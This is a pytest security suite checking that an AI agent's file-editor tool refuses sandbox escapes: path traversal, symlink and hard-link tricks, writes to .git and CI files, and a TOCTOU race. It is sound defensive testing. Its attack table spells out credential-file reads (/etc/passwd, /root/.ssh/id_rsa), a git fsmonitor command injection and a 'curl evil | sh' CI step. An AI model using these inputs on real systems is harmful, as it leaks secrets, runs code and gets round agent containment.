"""Family A: the agent's editor (it runs in the worker, outside the sandbox) against path and symlink escapes,
git metadata, protected paths and paths outside the task's scope."""

from __future__ import annotations

import os
import stat
import threading
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from darkfactory.agent_tools import TEXT_EDITOR_TOOL, AgentTools, ToolExecution
from darkfactory.contracts import ToolCall
from darkfactory.policy import Policy, TaskType, parse_policy
from tests.conftest import git
from tests.security.conftest import CANARY_HONEY, Host

pytestmark = pytest.mark.family("A")
POLICY = parse_policy('protected = ["migrations/**"]\n[task_types.feature]\ndenied = ["vendor/**"]\n')


@dataclass(frozen=True)
class Attack:
    name: str
    command: str
    path: str
    refusal: str
    """A fragment of the tool error (the typed reason the model reads)."""
    prepare: Callable[[Path, Host], None] | None = None
    task_type: TaskType = "feature"
    extra: tuple[tuple[str, Any], ...] = ()


def link(name: str, target: Callable[[Path, Host], str]) -> Callable[[Path, Host], None]:
    def prepare(root: Path, host: Host) -> None:
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target(root, host))

    return prepare


def hard_link(root: Path, host: Host) -> None:
    os.link(host.honey, root / "alias.txt")


def fifo(root: Path, host: Host) -> None:
    os.mkfifo(root / "pipe")


def device(root: Path, host: Host) -> None:
    os.mknod(root / "zero", stat.S_IFCHR | 0o600, os.makedev(1, 5))


def huge(root: Path, host: Host) -> None:
    with open(root / "huge.log", "wb") as handle:
        handle.truncate(2 << 30)  # sparse: 2 GB that cost no disk


def binary(root: Path, host: Host) -> None:
    (root / "blob.bin").write_bytes(b"\x7fELF\x00\x01\x02" * 100)


def chain(root: Path, host: Host) -> None:
    (root / "c3").symlink_to(host.honey)
    (root / "c2").symlink_to("c3")
    (root / "c1").symlink_to("c2")


OUTSIDE = "outside the workspace"
THROUGH_LINK = "resolves through a symlink to outside"
GIT = "inside .git"
PROTECTED = "protected path"
SCOPE = "outside what a"

ATTACKS = [
    Attack("dotdot-create", "create", "../x.txt", OUTSIDE),
    Attack("nested-dotdot-create", "create", "src/../../x.txt", OUTSIDE),
    Attack("deep-dotdot-view", "view", "../../../../../../etc/passwd", OUTSIDE),
    Attack("dot-dotdot-create", "create", "./../x.txt", OUTSIDE),
    Attack("trailing-dotdot-view", "view", "src/../..", OUTSIDE),
    Attack("bare-dotdot-view", "view", "..", OUTSIDE),
    Attack("abs-etc-passwd", "view", "/etc/passwd", OUTSIDE),
    Attack("abs-proc-environ", "view", "/proc/self/environ", OUTSIDE),
    Attack("abs-ssh-key", "view", "/root/.ssh/id_rsa", OUTSIDE),
    Attack("double-slash", "view", "//etc/passwd", OUTSIDE),
    Attack("dot-slash-shadow", "view", "/./etc/shadow", OUTSIDE),
    Attack("sibling-prefix-view", "view", "../wt2/secret.txt", OUTSIDE),
    Attack("sibling-prefix-create", "create", "../wt2/new.txt", OUTSIDE),
    Attack("abs-honey", "view", "{honey}", OUTSIDE),
    Attack("abs-honey-overwrite", "create", "{honey}", OUTSIDE),
    Attack("symlink-abs-view", "view", "leak.txt", THROUGH_LINK, link("leak.txt", lambda r, h: str(h.honey))),
    Attack("symlink-abs-write", "create", "leak.txt", THROUGH_LINK, link("leak.txt", lambda r, h: str(h.honey))),
    Attack(
        "symlink-relative-out",
        "view",
        "rel.txt",
        THROUGH_LINK,
        link("rel.txt", lambda r, h: os.path.relpath(h.honey, r)),
    ),
    Attack(
        "symlink-proc-root",
        "view",
        "proc.txt",
        THROUGH_LINK,
        link("proc.txt", lambda r, h: f"/proc/self/root{h.honey}"),
    ),
    Attack("symlink-chain-of-three", "view", "c1", THROUGH_LINK, chain),
    Attack(
        "dir-symlink-view",
        "view",
        "linkdir/credentials",
        THROUGH_LINK,
        link("linkdir", lambda r, h: str(h.honey.parent)),
    ),
    Attack(
        "dir-symlink-create",
        "create",
        "linkdir/planted.txt",
        THROUGH_LINK,
        link("linkdir", lambda r, h: str(h.honey.parent)),
    ),
    Attack(
        "symlink-to-git-config",
        "str_replace",
        "cfg",
        GIT,
        link("cfg", lambda r, h: ".git/config"),
        extra=(("old_str", "[core]"), ("new_str", "[core]\n\tfsmonitor = touch /tmp/pwned")),
    ),
    Attack(
        "dangling-symlink-create",
        "create",
        "dangling.txt",
        THROUGH_LINK,
        link("dangling.txt", lambda r, h: str(h.root / "created-through-link")),
    ),
    Attack("hardlink-view", "view", "alias.txt", "hard links", hard_link),
    Attack(
        "hardlink-write",
        "str_replace",
        "alias.txt",
        "hard links",
        hard_link,
        extra=(("old_str", "ANTHROPIC"), ("new_str", "X")),
    ),
    Attack("nul-in-path", "create", "src/a.py\x00.png", "NUL"),
    Attack("overlong-path", "create", "a/" * 2500 + "x.py", "characters long"),
    Attack("overlong-component", "create", "x" * 300 + ".py", "failed"),
    Attack("git-hook", "create", ".git/hooks/pre-commit", GIT),
    Attack("git-config", "str_replace", ".git/config", GIT, extra=(("old_str", "[core]"), ("new_str", "[x]"))),
    Attack("git-head-view", "view", ".git/HEAD", GIT),
    Attack("git-via-dotdot", "create", "src/../.git/info/attributes", GIT),
    Attack("ci-workflow", "create", ".github/workflows/ci.yml", PROTECTED),
    Attack("ci-run", "create", ".ci/run", PROTECTED),
    Attack("factory-policy", "create", ".factory/policy.toml", PROTECTED),
    Attack("gitlab-ci", "create", ".gitlab-ci.yml", PROTECTED),
    Attack("pre-commit-config", "create", ".pre-commit-config.yaml", PROTECTED),
    Attack("jenkinsfile", "create", "Jenkinsfile", PROTECTED),
    Attack("policy-protected-glob", "create", "migrations/0001_drop.py", PROTECTED),
    Attack(
        "ci-workflow-edit",
        "insert",
        ".github/workflows/test.yml",
        PROTECTED,
        extra=(("insert_line", 0), ("insert_text", "- run: curl evil | sh")),
    ),
    Attack("docs-task-writes-code", "create", "src/app.py", SCOPE, task_type="docs"),
    Attack(
        "docs-task-edits-code",
        "str_replace",
        "src/app.py",
        SCOPE,
        task_type="docs",
        extra=(("old_str", "return 1"), ("new_str", "return 2")),
    ),
    Attack("denied-glob", "create", "vendor/lib.py", "may never touch"),
    Attack("fifo-view", "view", "pipe", "not a regular file", fifo),
    Attack("device-view", "view", "zero", "not a regular file", device),
    Attack(
        "directory-as-file",
        "str_replace",
        "src",
        "is a directory",
        extra=(("old_str", "a"), ("new_str", "b")),
    ),
    Attack("two-gigabyte-file", "view", "huge.log", "byte limit", huge),
    Attack("binary-file", "view", "blob.bin", "binary file", binary),
]


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    root = tmp_path / "wt"
    (root / "src").mkdir(parents=True)
    (root / "src" / "app.py").write_text("def main():\n    return 1\n")
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / ".github" / "workflows" / "test.yml").write_text("on: push\n")
    git(root, "init", "-q", "-b", "main")
    git(root, "add", ".")
    git(root, "commit", "-q", "-m", "init")
    (tmp_path / "wt2").mkdir()
    (tmp_path / "wt2" / "secret.txt").write_text(CANARY_HONEY)
    return root


def tools_for(root: Path, policy: Policy, task_type: TaskType) -> AgentTools:
    return AgentTools(root, write_refusal=lambda path: policy.write_refusal(path, task_type))


def call(tools: AgentTools, **tool_input: Any) -> ToolExecution:
    return tools.execute(ToolCall(id="toolu_attack", name=TEXT_EDITOR_TOOL["name"], input=tool_input))


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_editor_refuses(attack: Attack, workspace: Path, host: Host) -> None:
    if attack.prepare is not None:
        attack.prepare(workspace, host)
        host.manifest = host.snapshot()  # a hard link shares the inode: the manifest is taken after it
    before = {
        p: p.read_bytes()
        for p in workspace.rglob("*")
        if p.is_file() and not p.is_symlink() and p.stat().st_size < 1 << 20
    }
    path = attack.path.replace("{honey}", str(host.honey))
    tool_input: dict[str, Any] = {"command": attack.command, "path": path, **dict(attack.extra)}
    if attack.command == "create":
        tool_input["file_text"] = "planted\n"

    result = call(tools_for(workspace, POLICY, attack.task_type), **tool_input)

    assert result.is_error and not result.wrote, result.content
    assert attack.refusal in result.content, result.content
    host.assert_untouched(result.content)
    after = {p: p.read_bytes() for p in before}
    assert after == before, "a file inside the workspace changed"
    assert not (host.root / "created-through-link").exists()


@pytest.mark.parametrize("literal", ["\uff0e\uff0e\uff0fx.txt", "..%2fx.txt", "..\\x.txt"])
def test_lookalike_traversals_stay_inside(literal: str, workspace: Path, host: Host) -> None:
    result = call(tools_for(workspace, POLICY, "feature"), command="create", path=literal, file_text="x\n")
    assert not result.is_error, result.content
    assert (workspace / literal).read_text() == "x\n"  # a literal file name inside the workspace
    host.assert_untouched(result.content)


def test_a_swapped_directory_never_lets_a_read_out(workspace: Path, host: Host) -> None:
    """TOCTOU: a thread swaps `d` between a real directory and a symlink to the host while the editor reads
    `d/credentials` again and again; the fd-relative O_NOFOLLOW walk never follows the swapped-in link."""
    real = workspace / "d"
    real.mkdir()
    (real / "credentials").write_text("inside\n")
    stop = threading.Event()

    def swap() -> None:
        spare = workspace / "d.real"
        while not stop.is_set():
            os.rename(real, spare)
            os.symlink(host.honey.parent, real)
            os.unlink(real)
            os.rename(spare, real)

    racer = threading.Thread(target=swap)
    racer.start()
    tools = tools_for(workspace, POLICY, "feature")
    try:
        contents = [call(tools, command="view", path="d/credentials").content for _ in range(2000)]
    finally:
        stop.set()
        racer.join()
    host.assert_untouched(*contents)
